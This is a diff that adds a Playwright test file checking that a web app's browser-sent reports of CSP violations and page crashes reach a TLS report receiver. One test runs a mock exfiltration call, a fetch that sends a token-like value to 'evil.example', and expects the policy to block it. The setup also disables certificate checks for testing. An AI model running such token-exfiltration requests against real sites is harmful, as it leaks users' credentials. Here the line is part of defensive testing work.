@@ -1,0 +1,74 @@
+import type { Report } from '@laundry-board/shared-types';
+import { createReportHandler } from '@laundry-board/reports';
+import { expect, expectRefusal, test as base } from '../../support/fixtures.ts';
+import { serveOwnShell } from '../../support/localSite.ts';
+import { frontOverTls, serveOverTls } from '../../support/overTls.ts';
+
+interface Reported {
+  /** Of the shell: browsers report only what happened over TLS. */
+  readonly origin: string;
+  /** What the receiver has made of what the browser has sent by itself. */
+  readonly byBrowser: Report[];
+}
+
+const test = base.extend<{ reported: Reported }>({
+  reported: async ({ site }, use) => {
+    const byBrowser: Report[] = [];
+    const origins: string[] = [];
+    const handle = createReportHandler({
+      origins,
+      // A browser does not know the release.
+      write: (report) => report.version === 'unknown' && byBrowser.push(report),
+    });
+    const receiver = await serveOverTls((request, response) => void handle(request, response));
+    const reportEndpoint = `${receiver.origin}/reports`;
+    const shell = await serveOwnShell({ ...site.config, reportEndpoint });
+    const front = await frontOverTls(shell.origin);
+    origins.push(front.origin);
+    await use({ origin: front.origin, byBrowser });
+    await Promise.all([front.close(), shell.close(), receiver.close()]);
+  },
+});
+
+test.use({
+  ignoreHTTPSErrors: true,
+  // Everybody has it, but for a browser without windows. Chrome asks for it before it sends a report.
+  permissions: ['background-sync'],
+  launchOptions: async ({ launchOptions }, use) => {
+    const args = ['--ignore-certificate-errors', '--short-reporting-delay'];
+    await use({ ...launchOptions, args: [...(launchOptions.args ?? []), ...args] });
+  },
+});
+
+test('a violation of the policy is reported by the browser itself', async ({
+  page,
+  pageConsole,
+  reported,
+}) => {
+  expectRefusal(pageConsole, /connect-src https:\/\/evil/);
+  await page.goto(reported.origin);
+  await page.evaluate("fetch('https://evil.example/?token=eyJhbGciOi').catch(() => {})");
+  await expect
+    .poll(() => reported.byBrowser)
+    .toEqual([
+      {
+        type: 'violation',
+        time: expect.any(Number),
+        version: 'unknown',
+        browser: 'other',
+        directive: 'connect-src',
+        blocked: 'other',
+        message: 'reported by the browser',
+      },
+    ]);
+});
+
+test('a crash of the page is reported by the browser itself', async ({ page, reported }) => {
+  await page.goto(reported.origin);
+  const devTools = await page.context().newCDPSession(page);
+  // A page that has crashed answers nothing.
+  devTools.send('Page.crash').catch(() => {});
+  await expect
+    .poll(() => reported.byBrowser)
+    .toMatchObject([{ type: 'error', failure: 'crashed', message: 'crashed' }]);
+});
